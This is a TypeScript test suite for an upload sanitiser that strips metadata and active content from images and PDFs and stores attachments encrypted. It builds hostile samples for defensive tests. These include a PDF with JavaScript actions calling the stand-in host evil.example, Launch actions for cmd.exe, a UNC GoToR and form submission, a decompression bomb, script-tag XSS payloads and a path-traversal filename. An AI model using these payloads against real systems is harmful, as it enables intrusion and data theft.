import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { constants, crc32, deflateSync, inflateSync } from 'node:zlib';
import fc from 'fast-check';
import sharp from 'sharp';
import { sql } from 'kysely';
import {
  decodePDFRawStream,
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRawStream,
  PDFString,
  type PDFObject,
} from 'pdf-lib';
import { createDataKey, type KeyRing } from '../../crypto/envelope.ts';
import { createTestDatabase } from '../../test/database.ts';
import type { Database, DatabaseHandle } from '../../db/database.ts';
import { sanitiseFileName } from './file-name.ts';
import { cleanPdfIsolated } from './pdf-sandbox.ts';
import { allowedMediaTypes, processUpload, type ProcessedFile } from './process.ts';
import { listAttachments, readAttachment, storeAttachments } from './store.ts';

const maxBytes = 10 * 1024 * 1024;
const personName = 'Jan Jansen';

// --- Generated test files ---------------------------------------------------------------------

function canvas(width = 40, height = 20) {
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 30, b: 30 } } });
}

const xmpPacket =
  '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
  `<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${personName}</dc:creator>` +
  '</rdf:Description></rdf:RDF></x:xmpmeta>';

const spyExif = {
  IFD0: { Make: 'SpyCam', Model: 'Spy 1', Artist: personName },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 5/1 0/1', GPSMapDatum: 'WGS-84-SPY' },
};

function jpegWithMetadata(): Promise<Buffer> {
  return canvas().jpeg().withExif(spyExif).withXmp(xmpPacket).withIccProfile('p3').toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** A PNG with a tEXt chunk right after IHDR (signature 8 bytes + IHDR chunk 25 bytes). */
async function pngWithText(): Promise<Buffer> {
  const png = await canvas().png().withExif(spyExif).toBuffer();
  const text = pngChunk('tEXt', Buffer.from(`Author\0${personName}`, 'latin1'));
  return Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]);
}

/** An animated GIF with a comment extension after the global colour table. */
async function animatedGifWithComment(): Promise<Buffer> {
  const frames = await Promise.all(
    [10, 120, 250].map((r) => canvas(30, 20).tint({ r, g: 0, b: 0 }).png().toBuffer()),
  );
  const gif = await sharp(frames, { join: { animated: true } })
    .gif({ delay: [100, 100, 100], loop: 0 })
    .toBuffer();
  const flags = gif[10] ?? 0;
  const colourTableBytes = flags & 0x80 ? 3 * (1 << ((flags & 7) + 1)) : 0;
  const at = 13 + colourTableBytes;
  const comment = Buffer.from(personName, 'latin1');
  const extension = Buffer.concat([Buffer.from([0x21, 0xfe, comment.length]), comment, Buffer.from([0])]);
  return Buffer.concat([gif.subarray(0, at), extension, gif.subarray(at)]);
}

async function pdfWithMetadata(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.setAuthor(personName);
  document.setTitle(`Verklaring ${personName}`);
  document.setSubject('Geheim');
  document.setKeywords([personName]);
  document.addPage([200, 200]).drawText('Verklaring');
  const xmp = document.context.stream(`<x:xmpmeta>${personName}</x:xmpmeta>`, {
    Type: 'Metadata',
    Subtype: 'XML',
  });
  document.catalog.set(PDFName.of('Metadata'), document.context.register(xmp));
  // An object nothing refers to, like a stale Info dictionary from an earlier revision.
  document.context.register(document.context.obj({ Author: personName }));
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** A PDF whose trailer declares encryption, which pdf-lib cannot read. */
async function encryptedPdf(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  document.context.trailerInfo.Encrypt = document.context.obj({ Filter: 'Standard', V: 1, R: 2, P: -4 });
  return Buffer.from(await document.save());
}

/** A PDF with an object stream that inflates to 64 MB: tiny on disk, heavy for pdf-lib to decode. */
async function pdfWithObjectStreamBomb(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage().drawText('hi');
  const pdf = Buffer.from(await document.save({ useObjectStreams: false })).toString('latin1');
  const payload = Buffer.alloc(64 * 1024 * 1024, 0x20);
  payload.write('99 0 ');
  const packed = deflateSync(payload);
  const header = `50 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
  const object = Buffer.concat([Buffer.from(header), packed, Buffer.from('\nendstream\nendobj\n')]);
  const xref = pdf.indexOf('xref');
  return Buffer.concat([
    Buffer.from(pdf.slice(0, xref), 'latin1'),
    object,
    Buffer.from(pdf.slice(xref), 'latin1'),
  ]);
}

const attackerHost = 'evil.example';
const attachedPayload = 'attached payload 7f3a';

/**
 * A PDF with every kind of active content a viewer may run when it opens, or on a click or keystroke:
 * each would call the attacker's host or open an embedded file. Also harmless navigation that should
 * survive: a link and a bookmark to page 2, and a bookmark whose sibling has a URI action.
 */
async function pdfWithActiveContent(useObjectStreams: boolean): Promise<Buffer> {
  const document = await PDFDocument.create();
  const { context } = document;
  const url = (path: string) => PDFString.of(`https://${attackerHost}/${path}`);
  const script = (path: string) =>
    context.obj({
      Type: 'Action',
      S: 'JavaScript',
      JS: PDFString.of(`app.launchURL('https://${attackerHost}/${path}')`),
    });
  const page = document.addPage([300, 300]);
  page.drawText('Verklaring', { x: 20, y: 250 });
  const second = document.addPage([300, 300]);
  second.drawText('Bijlage', { x: 20, y: 250 });
  const toSecond = context.obj([second.ref, 'Fit']);

  document.catalog.set(PDFName.of('OpenAction'), context.register(script('open')));
  page.node.set(PDFName.of('AA'), context.obj({ O: script('page-open'), C: script('page-close') }));
  document.addJavaScript('init', `app.launchURL('https://${attackerHost}/names')`);
  await document.attach(Buffer.from(attachedPayload), 'payload.txt', { mimeType: 'text/plain' });

  const annotation = (rect: number[], entries: Record<string, PDFObject | string | number[]>) =>
    page.node.addAnnot(context.register(context.obj({ Type: 'Annot', Rect: rect, ...entries })));
  annotation([0, 0, 50, 20], { Subtype: 'Link', A: context.obj({ S: 'URI', URI: url('link') }) });
  annotation([0, 20, 50, 40], {
    Subtype: 'Link',
    A: context.obj({ S: 'Launch', F: PDFString.of('calc.exe'), Win: { F: PDFString.of('cmd.exe') } }),
  });
  annotation([0, 40, 50, 60], {
    Subtype: 'Link',
    A: context.obj({ S: 'GoToR', F: PDFString.of(`\\\\${attackerHost}\\share\\x.pdf`), D: [0, 'Fit'] }),
  });
  annotation([0, 60, 50, 80], { Subtype: 'Link', Dest: toSecond });
  annotation([0, 80, 50, 100], {
    Subtype: 'Link',
    A: context.obj({ S: 'GoTo', D: toSecond, Next: [script('next')] }),
  });
  annotation([0, 100, 50, 120], {
    Subtype: 'FileAttachment',
    FS: context.obj({
      Type: 'Filespec',
      F: PDFString.of('second.txt'),
      EF: { F: context.register(context.flateStream(attachedPayload, { Type: 'EmbeddedFile' })) },
    }),
  });

  const form = document.getForm();
  const field = form.createTextField('naam');
  field.addToPage(page, { x: 100, y: 150, width: 150, height: 20 });
  field.acroField.dict.set(PDFName.of('AA'), context.obj({ K: script('keystroke') }));
  const button = form.createButton('verstuur');
  button.addToPage('Verstuur', page, { x: 100, y: 100, width: 100, height: 20 });
  button.acroField
    .getWidgets()[0]
    ?.dict.set(
      PDFName.of('A'),
      context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: url('submit') }, Flags: 4 }),
    );
  const xfa = `<xdp:xdp><script>xfa.host.gotoURL('https://${attackerHost}/xfa')</script></xdp:xdp>`;
  form.acroForm.dict.set(PDFName.of('XFA'), context.register(context.flateStream(xfa)));

  const outlines = context.nextRef();
  const [website, appendix] = [context.nextRef(), context.nextRef()];
  context.assign(
    website,
    context.obj({
      Title: PDFString.of('Website'),
      Parent: outlines,
      Next: appendix,
      A: { S: 'URI', URI: url('bookmark') },
    }),
  );
  context.assign(
    appendix,
    context.obj({ Title: PDFString.of('Bijlage'), Parent: outlines, Prev: website, Dest: toSecond }),
  );
  context.assign(outlines, context.obj({ Type: 'Outlines', First: website, Last: appendix, Count: 2 }));
  document.catalog.set(PDFName.of('Outlines'), outlines);

  // Otherwise pdf-lib would drop the XFA itself.
  return Buffer.from(await document.save({ useObjectStreams, updateFieldAppearances: false }));
}

/** The file followed by the inflated content of each of its Flate streams, object streams included. */
function withInflatedStreams(pdf: Buffer): Buffer {
  const parts = [pdf];
  const text = pdf.toString('latin1');
  for (const match of text.matchAll(/(?<!end)stream\r?\n/g)) {
    const start = match.index + match[0].length;
    const end = text.indexOf('endstream', start);
    if (end < 0) continue;
    try {
      parts.push(inflateSync(pdf.subarray(start, end), { finishFlush: constants.Z_SYNC_FLUSH }));
    } catch {
      // not Flate-encoded: its raw bytes are already part of the file
    }
  }
  return Buffer.concat(parts);
}

/** What each page draws: its content streams, decoded. */
async function pageContents(pdf: Buffer): Promise<string[]> {
  const document = await PDFDocument.load(pdf, { updateMetadata: false });
  return document.getPages().map((page) => {
    const contents = page.node.Contents();
    const streams =
      contents instanceof PDFArray
        ? contents.asArray().map((ref) => document.context.lookup(ref))
        : [contents];
    return streams
      .map((stream) =>
        stream instanceof PDFRawStream
          ? Buffer.from(decodePDFRawStream(stream).decode()).toString('latin1')
          : '',
      )
      .join('\n');
  });
}

/** Every form in which a PDF writer may store the name: plain, UTF-16BE, and hex of either. */
function encodingsOf(text: string): Buffer[] {
  const utf16 = Buffer.from(`\ufeff${text}`, 'utf16le').swap16().subarray(2);
  return [
    Buffer.from(text),
    utf16,
    Buffer.from(utf16.toString('hex')),
    Buffer.from(utf16.toString('hex').toUpperCase()),
  ];
}

function assertContainsNone(data: Buffer, needles: (string | Buffer)[], message: string): void {
  for (const needle of needles) assert.ok(!data.includes(needle), `${message}: ${needle.toString()}`);
}

async function accept(data: Buffer, fileName = 'upload.bin'): Promise<ProcessedFile> {
  const result = await processUpload({ fileName, data }, maxBytes);
  assert.ok(result.ok, `expected acceptance, got ${result.ok ? '' : result.reason}`);
  return result.file;
}

async function rejectionOf(data: Buffer, fileName = 'upload.bin'): Promise<string> {
  const result = await processUpload({ fileName, data }, maxBytes);
  assert.ok(!result.ok, 'expected a rejection');
  return result.reason;
}

// --- Processing -------------------------------------------------------------------------------

describe('processUpload: images', () => {
  it('removes EXIF (camera, GPS), XMP and the ICC profile from a JPEG', async () => {
    const original = await jpegWithMetadata();
    const before = await sharp(original).metadata();
    assert.ok(
      before.exif?.includes('SpyCam') && before.exif.includes('WGS-84-SPY'),
      'original has camera and GPS',
    );
    assert.ok(before.xmp && before.icc, 'original has XMP and ICC');

    const file = await accept(original, 'IMG_0001.JPG');
    assert.equal(file.mediaType, 'image/jpeg');
    assert.equal(file.cleanMediaType, 'image/jpeg');
    assert.equal(file.fileName, 'IMG_0001.JPG');
    const after = await sharp(file.clean).metadata();
    assert.equal(after.format, 'jpeg');
    assert.equal(after.space, 'srgb');
    assert.equal(after.exif, undefined);
    assert.equal(after.xmp, undefined);
    assert.equal(after.icc, undefined);
    assertContainsNone(
      file.clean,
      ['SpyCam', 'WGS-84-SPY', personName, 'Exif\0', 'ICC_PROFILE', 'xmpmeta'],
      'clean JPEG',
    );
  });

  it('applies the EXIF orientation before dropping it', async () => {
    const original = await canvas(40, 20).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    const file = await accept(original);
    const after = await sharp(file.clean).metadata();
    assert.deepEqual([after.width, after.height, after.orientation], [20, 40, undefined]);
  });

  it('removes text chunks, EXIF and XMP from a PNG', async () => {
    const original = await pngWithText();
    assert.ok((await sharp(original).metadata()).comments?.some((c) => c.text === personName));

    const file = await accept(original, 'scan.png');
    const after = await sharp(file.clean).metadata();
    assert.equal(after.format, 'png');
    assert.equal(after.comments, undefined);
    assert.equal(after.exif, undefined);
    assertContainsNone(file.clean, ['SpyCam', personName, 'tEXt', 'eXIf'], 'clean PNG');
  });

  it('removes EXIF from a WebP', async () => {
    const original = await canvas().webp().withExif(spyExif).toBuffer();
    assert.ok(original.includes('SpyCam'));
    const file = await accept(original, 'chat.webp');
    assert.equal(file.mediaType, 'image/webp');
    assert.equal((await sharp(file.clean).metadata()).exif, undefined);
    assertContainsNone(file.clean, ['SpyCam', personName], 'clean WebP');
  });

  it('keeps all frames of an animated GIF and drops its comment', async () => {
    const original = await animatedGifWithComment();
    assert.ok(original.includes(personName));
    const file = await accept(original, 'sticker.gif');
    assert.equal(file.mediaType, 'image/gif');
    assert.equal((await sharp(file.clean, { animated: true }).metadata()).pages, 3);
    assertContainsNone(file.clean, [personName], 'clean GIF');
  });

  it('converts CMYK to sRGB', async () => {
    const original = await canvas().toColourspace('cmyk').jpeg().toBuffer();
    const file = await accept(original);
    assert.equal((await sharp(file.clean).metadata()).space, 'srgb');
  });

  it('rejects images beyond the pixel limit', async () => {
    // 8000 × 8000 = 64 MP, but tiny as a PNG of one colour.
    const original = await canvas(8000, 8000).png().toBuffer();
    assert.equal(await rejectionOf(original), 'too_large');
  });
});

describe('processUpload: PDF', () => {
  it('removes the Info dictionary, XMP and unreferenced objects, and still loads', async () => {
    const original = await pdfWithMetadata();
    assert.ok(
      encodingsOf(personName).some((form) => original.includes(form)),
      'the original names the author',
    );

    const file = await accept(original, 'verklaring.pdf');
    assert.equal(file.mediaType, 'application/pdf');
    assertContainsNone(
      file.clean,
      [...encodingsOf(personName), 'pdf-lib', '/Info', '/Metadata', '/ID'],
      'clean PDF',
    );
    const reloaded = await PDFDocument.load(file.clean, { updateMetadata: false });
    assert.equal(reloaded.getPageCount(), 1);
    assert.equal(reloaded.getAuthor(), undefined);
    assert.equal(reloaded.getTitle(), undefined);
  });

  it('drops bytes appended after the PDF', async () => {
    const original = Buffer.concat([await pdfWithMetadata(), Buffer.from('\n<script>alert(1)</script>\n')]);
    const file = await accept(original);
    assertContainsNone(file.clean, ['<script>'], 'clean PDF');
  });

  it('accepts object streams, but not one that inflates beyond the limit', async () => {
    const document = await PDFDocument.create();
    document.setAuthor(personName);
    document.addPage().drawText('hi');
    const compact = Buffer.from(await document.save({ useObjectStreams: true }));
    assert.ok(compact.includes('/ObjStm'));
    const file = await accept(compact);
    assertContainsNone(file.clean, encodingsOf(personName), 'clean PDF');
    assert.equal(await rejectionOf(await pdfWithObjectStreamBomb()), 'unreadable');
  });

  it('removes scripts, actions that open or fetch something, and embedded files', async () => {
    const needles = [
      '/JavaScript',
      '/JS',
      '/OpenAction',
      '/AA',
      '/EmbeddedFile',
      '/Launch',
      '/URI',
      '/GoToR',
      '/SubmitForm',
      '/XFA',
      '/FileAttachment',
      attackerHost,
      attachedPayload,
    ];
    for (const useObjectStreams of [false, true]) {
      const original = await pdfWithActiveContent(useObjectStreams);
      // The search below finds everything in the original, also inside compressed streams.
      const searchable = withInflatedStreams(original);
      for (const needle of needles) assert.ok(searchable.includes(needle), `original has ${needle}`);
      if (useObjectStreams) {
        assert.ok(
          original.includes('/ObjStm') && !original.includes('/OpenAction'),
          'dictionaries compressed',
        );
      }

      const { clean } = await accept(original, 'verklaring.pdf');
      // Without object streams every dictionary is in the file as plain text; streams are inflated.
      assert.ok(!clean.includes('/ObjStm'));
      assertContainsNone(
        withInflatedStreams(clean),
        needles,
        `clean PDF (object streams: ${useObjectStreams})`,
      );

      assert.deepEqual(await pageContents(clean), await pageContents(original), 'pages draw the same');
      const reloaded = await PDFDocument.load(clean, { updateMetadata: false });
      assert.equal(reloaded.getPageCount(), 2);
      assert.deepEqual(
        reloaded
          .getForm()
          .getFields()
          .map((f) => f.getName()),
        ['naam', 'verstuur'],
      );
      // Navigation within the file stays: the link with a destination and the one with a GoTo action.
      const annotations = reloaded.getPage(0).node.Annots();
      const subtypes = (annotations?.asArray() ?? []).map((ref) =>
        reloaded.context.lookup(ref, PDFDict).get(PDFName.of('Subtype'))?.toString(),
      );
      assert.deepEqual(subtypes.sort(), ['/Link', '/Link', '/Widget', '/Widget']);
      const outlines = reloaded.catalog.lookup(PDFName.of('Outlines'), PDFDict);
      const first = outlines.lookup(PDFName.of('First'), PDFDict);
      assert.equal(first.has(PDFName.of('A')), false);
      assert.equal(
        first.lookup(PDFName.of('Next'), PDFDict).has(PDFName.of('Dest')),
        true,
        'bookmarks stay linked',
      );
    }
  });

  it('gives up on a PDF that takes too long, and runs several at once', async () => {
    const document = await PDFDocument.create();
    for (let page = 0; page < 1000; page++) document.addPage().drawText(`page ${page}`);
    const slow = Buffer.from(await document.save());
    assert.equal(await cleanPdfIsolated(slow, { timeoutMs: 5 }), undefined);

    const pdf = await pdfWithMetadata();
    const results = await Promise.all(
      [1, 2, 3, 4].map(() => processUpload({ fileName: 'a.pdf', data: pdf }, maxBytes)),
    );
    assert.ok(results.every((result) => result.ok));
  });

  it('rejects encrypted and corrupt PDFs as unreadable', async () => {
    assert.equal(await rejectionOf(await encryptedPdf()), 'unreadable');
    assert.equal(await rejectionOf(Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\n')), 'unreadable');
  });
});

describe('processUpload: type, size and hash', () => {
  it('classifies by content, not by name', async () => {
    const file = await accept(await pdfWithMetadata(), 'photo.jpg');
    assert.equal(file.mediaType, 'application/pdf');
    assert.equal(file.fileName, 'photo.pdf');
  });

  it('rejects SVG, HTML, executables, archives, TIFF and AVIF whatever their name', async () => {
    const payloads: [string, Buffer][] = [
      ['svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
      ['html', Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>')],
      ['exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
      ['zip', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200)])],
      ['tiff', await canvas().tiff().toBuffer()],
      ['avif', await canvas().avif().toBuffer()],
    ];
    for (const [kind, data] of payloads) {
      assert.equal(await rejectionOf(data, 'photo.jpg'), 'type_not_allowed', kind);
    }
  });

  it('rejects a JPEG or PNG header followed by something else as unreadable', async () => {
    const html = Buffer.from('<html><script>alert(1)</script></html>');
    assert.equal(
      await rejectionOf(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html])),
      'unreadable',
    );
    const pngHeader = (await canvas().png().toBuffer()).subarray(0, 33);
    assert.equal(await rejectionOf(Buffer.concat([pngHeader, html])), 'unreadable');
  });

  it('rejects empty and too large files', async () => {
    assert.equal(await rejectionOf(Buffer.alloc(0)), 'empty');
    const jpeg = await jpegWithMetadata();
    const result = await processUpload({ fileName: 'a.jpg', data: jpeg }, jpeg.length - 1);
    assert.deepEqual(result, { ok: false, reason: 'too_large' });
    assert.ok((await processUpload({ fileName: 'a.jpg', data: jpeg }, jpeg.length)).ok);
  });

  it('keeps the original bytes with their size and SHA-256', async () => {
    const original = await jpegWithMetadata();
    const file = await accept(original);
    assert.equal(file.original, original);
    assert.equal(file.sizeBytes, original.length);
    assert.equal(file.sha256, createHash('sha256').update(original).digest('hex'));
  });

  it('lists the allowed media types', () => {
    assert.deepEqual([...allowedMediaTypes].sort(), [
      'application/pdf',
      'image/gif',
      'image/jpeg',
      'image/png',
      'image/webp',
    ]);
  });

  it('never throws on arbitrary bytes, also behind a magic number', async () => {
    const magic = [
      Buffer.alloc(0),
      Buffer.from([0xff, 0xd8, 0xff]),
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('GIF89a'),
      Buffer.from('RIFF\0\0\0\0WEBPVP8 '),
      Buffer.from('%PDF-1.4\n'),
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...magic),
        fc.uint8Array({ maxLength: 4096 }),
        async (prefix, body) => {
          const result = await processUpload(
            { fileName: 'x', data: Buffer.concat([prefix, body]) },
            maxBytes,
          );
          if (result.ok) assert.ok(allowedMediaTypes.includes(result.file.mediaType));
          else assert.ok(['type_not_allowed', 'empty', 'unreadable', 'too_large'].includes(result.reason));
        },
      ),
      { numRuns: 150 }, // a PDF costs a worker thread start (~0.25 s)
    );
  });
});

describe('sanitiseFileName', () => {
  const jpeg = ['jpg', 'jpeg'] as const;

  it('keeps the last path segment only', () => {
    assert.equal(sanitiseFileName('C:\\Users\\jan\\Desktop\\bewijs.jpg', jpeg), 'bewijs.jpg');
    assert.equal(sanitiseFileName('../../etc/passwd', jpeg), 'passwd.jpg');
  });

  it('removes control and bidi characters and replaces reserved ones', () => {
    assert.equal(sanitiseFileName('a\u0000b\nc\u202Egpj.exe', jpeg), 'abcgpj.jpg');
    assert.equal(sanitiseFileName('what?"now":*.jpeg', jpeg), 'what__now___.jpeg');
    assert.equal(sanitiseFileName('  ..hidden. ', jpeg), 'hidden.jpg');
  });

  it('matches the extension to the detected type', () => {
    assert.equal(sanitiseFileName('scan.PDF', jpeg), 'scan.jpg');
    assert.equal(sanitiseFileName('IMG.JPEG', jpeg), 'IMG.JPEG');
    assert.equal(sanitiseFileName('brief van baas', jpeg), 'brief van baas.jpg');
    assert.equal(sanitiseFileName('', jpeg), 'attachment.jpg');
    assert.equal(sanitiseFileName('...', jpeg), 'attachment.jpg');
  });

  it('always gives a well-formed name of at most 200 characters', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 600 }), (raw) => {
        const name = sanitiseFileName(raw, jpeg);
        assert.ok(name.length <= 200);
        assert.ok(name.endsWith('.jpg') || name.endsWith('.jpeg'));
        assert.doesNotMatch(name, /[\p{Cc}\p{Cf}/\\]/u);
        assert.equal(Buffer.from(name).toString(), name, 'no lone surrogates');
      }),
    );
    assert.equal(sanitiseFileName(`${'😀'.repeat(150)}.jpg`, jpeg), `${'😀'.repeat(98)}.jpg`);
  });
});

// --- Storage ----------------------------------------------------------------------------------

describe('attachment storage', () => {
  let handle: DatabaseHandle;
  let db: Database;
  const keyRing: KeyRing = [{ id: 'k1', key: randomBytes(32) }];

  before(async () => {
    handle = await createTestDatabase();
    db = handle.db;
  });
  after(() => handle.close());

  async function createReport() {
    const dataKey = await createDataKey(db, keyRing);
    const reportId = randomUUID();
    await db
      .insertInto('report')
      .values({
        id: reportId,
        language: 'nl',
        audience: 'self',
        exploitation_forms: ['labour'],
        municipality: 'unknown',
        acute_danger: false,
        narrative: 'test',
        reply_channel: 'receipt',
        data_key_id: dataKey.id,
        consent_version: 'test',
        submission_key_hash: randomUUID(),
      })
      .execute();
    return { dataKey, reportId };
  }

  async function addMessage(reportId: string): Promise<string> {
    const id = randomUUID();
    await db
      .insertInto('report_message')
      .values({ id, report_id: reportId, direction: 'from_reporter', body: 'x' })
      .execute();
    return id;
  }

  it('stores encrypted, lists without contents and reads both versions back', async () => {
    const { dataKey, reportId } = await createReport();
    const jpeg = await accept(await jpegWithMetadata(), `${personName} paspoort.jpg`);
    const pdf = await accept(await pdfWithMetadata(), 'loonstrook.pdf');
    const ids = await storeAttachments(db, dataKey, reportId, null, [jpeg, pdf]);
    assert.equal(ids.length, 2);

    const listed = await listAttachments(db, reportId);
    assert.deepEqual(
      listed.map(({ id, messageId, mediaType, sizeBytes }) => ({ id, messageId, mediaType, sizeBytes })),
      [
        { id: ids[0], messageId: null, mediaType: 'image/jpeg', sizeBytes: jpeg.sizeBytes },
        { id: ids[1], messageId: null, mediaType: 'application/pdf', sizeBytes: pdf.sizeBytes },
      ],
    );
    assert.ok(listed.every((item) => item.createdAt instanceof Date));
    // Listing decrypts nothing, so it cannot give the (encrypted) hash either.
    assert.deepEqual(Object.keys(listed[0] ?? {}).sort(), [
      'createdAt',
      'id',
      'mediaType',
      'messageId',
      'sizeBytes',
    ]);

    const clean = await readAttachment(db, keyRing, ids[0] ?? '', 'clean');
    assert.deepEqual(clean, {
      fileName: jpeg.fileName,
      mediaType: 'image/jpeg',
      sha256: jpeg.sha256, // of the original, also when reading the clean copy
      data: jpeg.clean,
    });
    const original = await readAttachment(db, keyRing, ids[1] ?? '', 'original');
    assert.deepEqual(original, {
      fileName: 'loonstrook.pdf',
      mediaType: 'application/pdf',
      sha256: pdf.sha256,
      data: pdf.original,
    });
  });

  it('does not store names or file contents in plaintext', async () => {
    const { dataKey, reportId } = await createReport();
    const jpeg = await accept(await jpegWithMetadata(), `${personName}.jpg`);
    const [id = ''] = await storeAttachments(db, dataKey, reportId, null, [jpeg]);
    const row = await db.selectFrom('attachment').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    assert.ok(!row.file_name.includes(personName));
    assert.ok(!row.original.includes(jpeg.original.subarray(0, 64)) && !row.original.includes('SpyCam'));
    assert.ok(!row.clean.includes(jpeg.clean.subarray(0, 64)));
  });

  it('does not store the hash of the original in a form that can be checked against a copy', async () => {
    const { dataKey, reportId } = await createReport();
    const photo = await jpegWithMetadata();
    const hex = createHash('sha256').update(photo).digest('hex');
    const digest = Buffer.from(hex, 'hex');
    const [id = ''] = await storeAttachments(db, dataKey, reportId, null, [await accept(photo)]);

    const row = await db.selectFrom('attachment').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    for (const [column, value] of Object.entries(row)) {
      const bytes = Buffer.isBuffer(value) ? value : Buffer.from(String(value));
      for (const form of [hex, hex.toUpperCase(), digest, digest.toString('base64')]) {
        assert.ok(!bytes.includes(form), `${column} holds the digest`);
      }
    }
    // The database's own rendering of the row (bytea as hex) would also show a raw binary digest.
    const { rows } = await sql<{
      text: string;
    }>`select a::text as text from attachment a where id = ${id}`.execute(db);
    assert.equal(rows.length, 1);
    assert.ok(!rows[0]?.text.toLowerCase().includes(hex));
  });

  it('fails to read with the wrong key ring or with swapped ciphertexts', async () => {
    const { dataKey, reportId } = await createReport();
    const [id = ''] = await storeAttachments(db, dataKey, reportId, null, [
      await accept(await jpegWithMetadata()),
    ]);
    await assert.rejects(readAttachment(db, [{ id: 'k1', key: randomBytes(32) }], id, 'clean'));
    await assert.rejects(
      readAttachment(db, [{ id: 'k2', key: randomBytes(32) }], id, 'clean'),
      /not configured/,
    );

    const row = await db
      .selectFrom('attachment')
      .select('original')
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    await db.updateTable('attachment').set({ clean: row.original }).where('id', '=', id).execute();
    await assert.rejects(readAttachment(db, keyRing, id, 'clean'));

    const [other = ''] = await storeAttachments(db, dataKey, reportId, null, [
      await accept(await pdfWithMetadata()),
    ]);
    const { sha256 } = await db
      .selectFrom('attachment')
      .select('sha256')
      .where('id', '=', other)
      .executeTakeFirstOrThrow();
    assert.ok(await readAttachment(db, keyRing, id, 'original'));
    await db.updateTable('attachment').set({ sha256 }).where('id', '=', id).execute();
    await assert.rejects(readAttachment(db, keyRing, id, 'original'));
  });

  it('links files to a message of the same report only, under that report’s key', async () => {
    const first = await createReport();
    const second = await createReport();
    const file = await accept(await jpegWithMetadata());
    const messageId = await addMessage(first.reportId);

    const [id = ''] = await storeAttachments(db, first.dataKey, first.reportId, messageId, [file]);
    assert.equal((await listAttachments(db, first.reportId))[0]?.messageId, messageId);
    await assert.rejects(storeAttachments(db, first.dataKey, second.reportId, null, [file]), /Data key/);
    await assert.rejects(storeAttachments(db, second.dataKey, second.reportId, messageId, [file]), /Message/);
    assert.deepEqual(await listAttachments(db, second.reportId), []);

    assert.ok(await readAttachment(db, keyRing, id, 'clean', { reportId: first.reportId }));
    assert.equal(await readAttachment(db, keyRing, id, 'clean', { reportId: second.reportId }), undefined);
  });

  it('answers undefined for unknown or malformed ids', async () => {
    assert.equal(await readAttachment(db, keyRing, randomUUID(), 'clean'), undefined);
    assert.equal(await readAttachment(db, keyRing, 'not-a-uuid', 'original'), undefined);
    assert.deepEqual(await listAttachments(db, 'not-a-uuid'), []);
  });
});
